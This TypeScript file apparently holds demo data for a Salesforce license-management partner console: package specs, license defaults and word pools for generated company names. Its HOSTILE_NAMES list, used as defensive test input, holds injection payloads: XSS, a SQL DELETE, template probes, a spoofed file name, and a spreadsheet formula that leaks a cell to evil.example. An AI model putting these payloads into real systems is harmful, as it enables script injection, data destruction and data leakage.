/** Fixed shape of the demo partner: its packages, and the text pools the generator draws from. */
export interface DemoPackageSpec {
  readonly name: string;
  readonly namespace: string;
  /** Share of all licenses. */
  readonly weight: number;
  /** Years of release history before "today". */
  readonly historyYears: number;
  /** Released versions, oldest first; a beta of the next one follows when `betaNext`. */
  readonly versions: readonly string[];
  readonly betaNext?: string;
  /** No release for this long: a retired product. */
  readonly quietDays?: number;
  /** A patch of an older line released after the latest (a hotfix): release dates are not in version order. */
  readonly hotfix?: { readonly version: string; readonly releasedAfter: string };
  /** The package's default license settings in the Partner Console: what a new install gets. */
  readonly defaults: DemoLicenseDefaults;
  /** 2GP: a Package2 in the demo Dev Hub (`package2Serial` gives its 0Ho id); 1GP: developed in the demo org as its packaging org. */
  readonly generation: '2gp' | '1gp';
  readonly package2Serial?: number;
  /**
   * The LMO's package record names this org (15 characters) as its developer, not the demo Dev
   * Hub: the package shows as linked elsewhere.
   */
  readonly linkedFromOrg?: string;
}

/** Partner Console defaults for new installs (the LMO has no record of them: they show in new licenses). */
export interface DemoLicenseDefaults {
  readonly status: 'Trial' | 'Active';
  /** Trial length, for Trial. */
  readonly trialDays?: number;
  /** A number of seats, or site-wide. */
  readonly seats: number | 'site';
  /** License term for Active defaults; undefined = does not expire. */
  readonly termDays?: number;
}

export const DEMO_PACKAGES: readonly DemoPackageSpec[] = [
  {
    name: 'Acme Billing',
    namespace: 'acmebill',
    weight: 0.45,
    historyYears: 5,
    versions: ['1.0.0', '1.1.0', '1.2.0', '1.3.1', '1.9.0', '1.10.0', '2.0.0', '2.1.0', '2.2.3', '2.3.0'],
    betaNext: '2.4.0',
    hotfix: { version: '1.10.1', releasedAfter: '2.0.0' },
    defaults: { status: 'Trial', trialDays: 30, seats: 10 },
    generation: '2gp',
    package2Serial: 1,
  },
  {
    name: 'Acme CPQ Connector',
    namespace: 'acmecpq',
    weight: 0.25,
    historyYears: 3,
    versions: ['1.0.0', '1.1.0', '1.2.0', '1.3.0', '1.4.2', '1.5.0'],
    defaults: { status: 'Trial', trialDays: 14, seats: 'site' },
    generation: '2gp',
    package2Serial: 2,
  },
  {
    name: 'Acme Field Service',
    namespace: 'acmefs',
    weight: 0.2,
    historyYears: 2,
    versions: ['0.9.0', '1.0.0', '1.1.0', '1.2.0'],
    betaNext: '1.3.0',
    defaults: { status: 'Active', seats: 25 },
    generation: '2gp',
    package2Serial: 3,
    // Registered years ago from the Dev Hub of a company Acme bought: its package record names that org.
    linkedFromOrg: '00D5g00000PKG03',
  },
  {
    name: 'Acme Insights (legacy)',
    namespace: 'acmeins',
    weight: 0.1,
    historyYears: 6,
    versions: ['3.0.0', '3.1.0', '3.2.0'],
    quietDays: 700,
    defaults: { status: 'Active', seats: 'site', termDays: 365 },
    generation: '1gp',
  },
];

/** A package the demo Dev Hub owns that the LMO has never seen. */
export interface DemoDevHubOnlyPackage {
  readonly name: string;
  readonly namespace: string | null;
  readonly containerOptions: 'Managed' | 'Unlocked';
  readonly package2Serial: number;
  /** Serial of its 033 subscriber package id and its 04t version ids. */
  readonly serial: number;
  /** Released versions, oldest first, with how many days before "today" each was released. */
  readonly versions: readonly { readonly version: string; readonly daysAgo: number }[];
  /** Subscribers who installed it (no license: it is not linked). */
  readonly installs: number;
}

export const DEV_HUB_ONLY_PACKAGES: readonly DemoDevHubOnlyPackage[] = [
  // Managed and released, but never registered in the Partner Console: its installs create no license.
  {
    name: 'Acme Payroll',
    namespace: 'acmepay',
    containerOptions: 'Managed',
    package2Serial: 9,
    serial: 9,
    versions: [{ version: '0.1.0', daysAgo: 12 }],
    installs: 4,
  },
  // Unlocked packages cannot be linked to the LMA at all.
  {
    name: 'Acme Dev Tools',
    namespace: null,
    containerOptions: 'Unlocked',
    package2Serial: 7,
    serial: 7,
    versions: [
      { version: '1.0.0', daysAgo: 200 },
      { version: '1.1.0', daysAgo: 40 },
    ],
    installs: 0,
  },
];

/** Versions released in the Dev Hub that nobody has installed yet: the LMO has no record of them. */
export const UNINSTALLED_RELEASES: readonly { readonly packageName: string; readonly version: string; readonly daysAgo: number }[] = [
  { packageName: 'Acme CPQ Connector', version: '1.6.0', daysAgo: 3 },
];

export const COMPANY_FIRST = [
  'Blue',
  'North',
  'Silver',
  'Bright',
  'Red',
  'Green',
  'Pacific',
  'Atlas',
  'Summit',
  'Harbor',
  'Granite',
  'Cedar',
  'Nova',
  'Apex',
  'Iron',
  'Golden',
  'River',
  'Stone',
  'Pioneer',
  'Crystal',
];
export const COMPANY_SECOND = [
  'Logistics',
  'Health',
  'Foods',
  'Energy',
  'Systems',
  'Retail',
  'Capital',
  'Labs',
  'Motors',
  'Media',
  'Insurance',
  'Telecom',
  'Pharma',
  'Robotics',
  'Analytics',
  'Travel',
  'Textiles',
  'Builders',
  'Solar',
  'Dynamics',
];
export const COMPANY_SUFFIX = ['Inc.', 'LLC', 'GmbH', 'Ltd', 'S.A.', 'AG', 'BV', 'Pty Ltd', 'KK', 'Corp.'];

/**
 * Customer text is hostile: the first subscriber orgs carry these names so every demo, test and
 * screenshot meets them, whatever the data size.
 */
export const HOSTILE_NAMES: readonly (string | null)[] = [
  '<img src=x onerror=alert(1)>',
  `O'Brien & "Sons" <b>Ltd</b>`,
  'Müller GmbH — 株式会社テスト 🚀',
  `Very Long Name ${'Corporation of Extremely Long Names '.repeat(7)}`.slice(0, 255),
  "'; DELETE FROM sfLma__License__c; -- \\ %_ ",
  null,
  '${process.env.HOME} {{constructor.constructor}} %s %n [link](javascript:alert(1))',
  'Evil\u202Egnp.exe\u200B Ltd\nSecond line',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a discount")',
  '+1 Cloud Services Ltd',
  '-Minus Consulting GmbH',
  '@Home Realty Inc.',
  '$(alert) $(rocket) Icons Corp',
];

export const EDITIONS: readonly (readonly [string, number])[] = [
  ['Enterprise Edition', 45],
  ['Unlimited Edition', 20],
  ['Professional Edition', 15],
  ['Developer Edition', 10],
  ['Performance Edition', 5],
  ['Partner Developer Edition', 5],
];

export const PRODUCTION_PODS = ['NA', 'EU', 'AP', 'USA', 'CAN'];
